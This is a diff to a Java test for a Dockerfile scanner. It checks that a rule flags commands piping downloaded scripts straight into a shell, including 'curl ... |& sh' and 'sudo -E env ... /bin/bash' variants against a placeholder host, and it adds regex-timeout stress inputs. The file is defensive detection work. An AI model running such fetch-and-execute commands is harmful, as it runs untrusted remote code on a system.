@@ -186,6 +186,32 @@ class DockerfileParserTest {
   }
 
   @Test
+  void pipeToShellCoversStderrPipesAndEnvAssignments() throws Exception {
+    for (String run :
+        List.of(
+            "curl -fsSL https://x.example/i |& sh",
+            "wget -qO- https://x.example/i |&bash -s",
+            "curl -s https://x.example/i | env A=1 B= sh",
+            "curl -s https://x.example/i | sudo -E env PATH=/x:/y /bin/bash",
+            "curl -s https://x.example/i |& python3")) {
+      assertThat(new DockerfileScanner().scan("Dockerfile", "FROM debian:12.5\nRUN " + run + "\n"))
+          .as(run)
+          .extracting(x -> x.rule().id())
+          .contains("BH-DF-0003");
+    }
+    for (String run :
+        List.of(
+            "curl -s https://x.example/i || sh -c true",
+            "curl -s https://x.example/i | env A=1 tee out",
+            "curl -s https://x.example/i | env a=a=a=a shasum")) {
+      assertThat(new DockerfileScanner().scan("Dockerfile", "FROM debian:12.5\nRUN " + run + "\n"))
+          .as(run)
+          .extracting(x -> x.rule().id())
+          .doesNotContain("BH-DF-0003");
+    }
+  }
+
+  @Test
   void hostileLinesDoNotBacktrackForever() {
     String curls = "curl x ".repeat(100_000);
     String letters = "a".repeat(500_000);
@@ -196,6 +222,10 @@ class DockerfileParserTest {
             + "x".repeat(200_000)
             + " apt-get install y\nENV DB_URL="
             + letters
+            + "\nRUN curl -s https://x | env "
+            + "a=".repeat(30_000)
+            + "\nRUN curl -s https://x | env "
+            + "a=b ".repeat(30_000)
             + "\nUSER 1\n";
     List<ConfigFinding> f =
         assertTimeoutPreemptively(
